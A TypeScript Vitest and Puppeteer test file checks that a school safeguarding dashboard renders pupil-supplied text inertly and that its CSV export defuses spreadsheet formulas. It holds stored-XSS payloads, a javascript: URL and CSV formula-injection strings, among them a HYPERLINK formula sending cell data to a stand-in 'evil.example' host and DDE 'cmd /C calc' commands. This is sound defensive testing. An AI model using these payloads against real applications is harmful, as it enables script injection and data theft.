import { parse } from 'csv-parse/sync';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { DeviceEvent } from '../../shared/protocol/events';
import { DashboardStack, screenshot } from '../support/dashboard-stack';
import { DeviceClient, enrol } from '../support/device-client';
import { StaffClient } from '../support/staff-client';
import { TEST_ADMIN_EMAIL, TEST_ADMIN_PASSWORD } from '../support/collector-process';

/**
 * Stored XSS: everything a pupil (or a page they visit) controls — typed text, URLs, page and
 * window titles, file names, their user name, a device name, a concern message — carries
 * script payloads. Every dashboard screen shows them as inert text in a real Chromium (no
 * dialog, no script run, no injected element, no javascript: link), and the CSV export
 * neutralises spreadsheet formulas.
 */
const MARK = 'window.__xss=(window.__xss||0)+1';
const PAYLOADS = [
  `<img src=x-xss data-xss onerror="${MARK};alert(1)">`,
  `<script data-xss>${MARK};alert(2)</script>`,
  `"><svg data-xss onload="${MARK};alert(3)">`,
  `'><iframe data-xss srcdoc="<script>parent.${MARK}</script>">`,
  `</textarea></title></style><b data-xss onmouseover="${MARK}">x</b>`,
  `{{constructor.constructor('${MARK}')()}}`,
];
const JS_URL = `javascript:${MARK};alert(4)`;
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('stored XSS: pupil-controlled text is inert on every dashboard screen and in exports', () => {
  const stack = new DashboardStack();
  const dialogs: string[] = [];
  let page: Page;
  let alertIds: string[] = [];
  const evil = PAYLOADS.join(' ');

  beforeAll(async () => {
    await stack.start({ chromiumPath: inject('chromiumPath'), dashboardDir: inject('dashboardDir'), deviceName: `Y6-${PAYLOADS[0]}` });
    await stack.collector.signIn();
    // Roster names and classes come from a school's CSV, which a pupil's data could reach.
    await stack.collector.api('POST', '/api/dashboard/roster', {
      csv: `user,name,class,year\n"pupil.${'x'}","${PAYLOADS[2]!.replace(/"/g, '""')}","=1+1","Year 5"\n`,
    });
    // A second device whose name and user are payloads too (agent window titles: the app/file name).
    const agent = await new DeviceClient(stack.collector.url, await enrol(stack.collector.url, { kind: 'agent', name: PAYLOADS[1], user: PAYLOADS[3] })).open();
    const now = Date.now();
    const at = (i: number) => new Date(now - i * 1000).toISOString();
    const term = 'hurt myself';
    const context = `${PAYLOADS[0]} I want to ${term} ${PAYLOADS[4]}`.slice(0, 600);
    const start = context.indexOf(term);
    const events: DeviceEvent[] = [
      { id: 'xss-kw-0001', at: at(1), type: 'keyword_alert', term, category: 'self-harm', severity: 5, context, matchStart: start, matchEnd: start + term.length, source: 'input', url: JS_URL, title: evil.slice(0, 500), user: 'pupil.x' } as DeviceEvent,
      { id: 'xss-kw-0002', at: at(2), type: 'keyword_alert', term, category: 'self-harm', severity: 4, context: `${FORMULAS[0]} ${term}`, matchStart: FORMULAS[0]!.length + 1, matchEnd: FORMULAS[0]!.length + 1 + term.length, source: 'search', url: `https://search.example/?q=${encodeURIComponent(PAYLOADS[1]!)}`, title: FORMULAS[1], user: FORMULAS[2] } as DeviceEvent,
      { id: 'xss-concern1', at: at(3), type: 'concern', message: `${evil} ${FORMULAS[3]}`, url: JS_URL, title: PAYLOADS[5], user: PAYLOADS[2] } as DeviceEvent,
      { id: 'xss-report01', at: at(4), type: 'url_report', url: JS_URL, kind: 'unsuitable', message: evil.slice(0, 1000) } as DeviceEvent,
      { id: 'xss-tamper01', at: at(5), type: 'tamper', kind: 'other', detail: evil } as DeviceEvent,
    ];
    await stack.device.sendEvents(events);
    // Window title outside the browser: the app and document (file) name are the pupil's.
    const fileName = `${PAYLOADS[0]}${FORMULAS[4]}.docx`;
    const wctx = `${fileName} - ${term}`;
    await agent.sendEvents([
      { id: 'xss-window01', at: at(6), type: 'keyword_alert', term, category: 'self-harm', severity: 5, context: wctx, matchStart: wctx.indexOf(term), matchEnd: wctx.indexOf(term) + term.length, source: 'window-title', app: `${PAYLOADS[1]}.exe`, title: fileName, user: PAYLOADS[3] } as DeviceEvent,
      { id: 'xss-hb-000001', at: at(0), type: 'heartbeat', kind: 'agent', version: PAYLOADS[0]!.slice(0, 40), policyVersion: 0, role: 'pupil', board: { on: false, reason: 'startup' }, user: PAYLOADS[5] } as DeviceEvent,
    ]);
    agent.close();
    const { alerts } = await stack.collector.api<{ alerts: { id: string }[] }>('GET', '/api/dashboard/alerts');
    alertIds = alerts.map((a) => a.id);
    // A staff name is shown on the audit and staff screens.
    await stack.collector.api('POST', '/api/dashboard/staff', { email: 'teacher.xss@school.invalid', name: PAYLOADS[4]!.slice(0, 200), role: 'teacher', password: 'a-long-enough-password-for-staff' });
    page = await stack.signedInPage(TEST_ADMIN_EMAIL, TEST_ADMIN_PASSWORD);
    page.on('dialog', async (d) => {
      dialogs.push(d.message());
      await d.dismiss();
    });
  });
  afterAll(() => stack.stop());

  async function inert(label: string): Promise<void> {
    // Let the screen load and hover everything once (onmouseover payloads).
    await page.waitForNetworkIdle({ idleTime: 400, timeout: 10_000 }).catch(() => undefined);
    await page.evaluate(() => {
      for (const el of document.querySelectorAll('body *')) el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    });
    await new Promise((r) => setTimeout(r, 300));
    const found = await page.evaluate(() => ({
      ran: (window as any).__xss ?? 0,
      injected: document.querySelectorAll('[data-xss]').length,
      jsLinks: [...document.querySelectorAll('a[href], iframe[src], img[src], form[action]')].filter((e) => /^\s*javascript:/i.test(e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action') ?? '')).length,
      text: document.body.innerText,
    }));
    expect({ label, ran: found.ran, injected: found.injected, jsLinks: found.jsLinks, dialogs }).toEqual({ label, ran: 0, injected: 0, jsLinks: 0, dialogs: [] });
  }

  it('alerts list and every alert detail', async () => {
    expect(alertIds.length).toBeGreaterThanOrEqual(4);
    await page.goto(`${stack.collector.url}/#/alerts`, { waitUntil: 'domcontentloaded' });
    await page.waitForFunction(() => document.querySelectorAll('#rows tr').length >= 4, { timeout: 15_000, polling: 200 });
    await inert('alerts list');
    // Shown, as text: the payload really reached the screen.
    expect(await page.evaluate(() => document.body.innerText)).toContain('<img src=x-xss');
    await screenshot(page, 'fault-xss-alerts');
    for (const id of alertIds) {
      await page.goto(`${stack.collector.url}/#/alerts/${encodeURIComponent(id)}`, { waitUntil: 'domcontentloaded' });
      await page.waitForFunction(() => !document.body.innerText.includes('Loading'), { timeout: 10_000, polling: 200 }).catch(() => undefined);
      await inert(`alert ${id}`);
      // Clicking every link on the page runs nothing either.
      await page.$$eval('main a[href]:not([href^="#"])', (as) => as.forEach((a) => (a as HTMLAnchorElement).click())).catch(() => undefined);
      await inert(`alert ${id} after clicks`);
    }
    await screenshot(page, 'fault-xss-alert-detail');
  });

  it('trends, reports, devices, roster, staff, audit, policy screens', async () => {
    for (const screen of ['trends', 'reports', 'devices', 'roster', 'staff', 'audit', 'policy']) {
      await page.goto(`${stack.collector.url}/#/${screen}`, { waitUntil: 'domcontentloaded' });
      await page.waitForSelector('header.top');
      await inert(screen);
      if (screen === 'devices') {
        expect(await page.evaluate(() => document.body.innerText)).toContain('Y6-<img');
        await screenshot(page, 'fault-xss-devices');
      }
    }
  });

  it('a teacher’s view (devices, board control) is inert too', async () => {
    const teacher = await stack.signedInPage('teacher.xss@school.invalid', 'a-long-enough-password-for-staff', { ownContext: true });
    teacher.on('dialog', async (d) => {
      dialogs.push(d.message());
      await d.dismiss();
    });
    const ran = async () => teacher.evaluate(() => ({ ran: (window as any).__xss ?? 0, injected: document.querySelectorAll('[data-xss]').length }));
    for (const screen of ['devices', 'alerts']) {
      await teacher.goto(`${stack.collector.url}/#/${screen}`, { waitUntil: 'domcontentloaded' });
      await teacher.waitForNetworkIdle({ idleTime: 400, timeout: 10_000 }).catch(() => undefined);
      expect(await ran()).toEqual({ ran: 0, injected: 0 });
    }
    expect(dialogs).toEqual([]);
    await teacher.close();
  });

  it('CSV export neutralises formulas in every pupil-controlled cell and keeps the text', async () => {
    const staff = await new StaffClient(stack.collector.url).signIn(TEST_ADMIN_EMAIL, TEST_ADMIN_PASSWORD);
    const res = await staff.raw('POST', '/api/dashboard/export/csv', { ids: alertIds });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const csv = await res.text();
    const rows = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    expect(rows.length).toBeGreaterThan(alertIds.length);
    const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    expect(dangerous, 'cells a spreadsheet would run as a formula').toEqual([]);
    // The pupil's words are still there, defused (a leading apostrophe), not dropped.
    expect(rows.flat()).toContain(`'${FORMULAS[1]}`);
    expect(rows.flat()).toContain(`'${FORMULAS[2]}`);
    expect(rows.flat()).toContain(`'=1+1`);
    expect(csv).toContain('<img src=x-xss');
  });
});
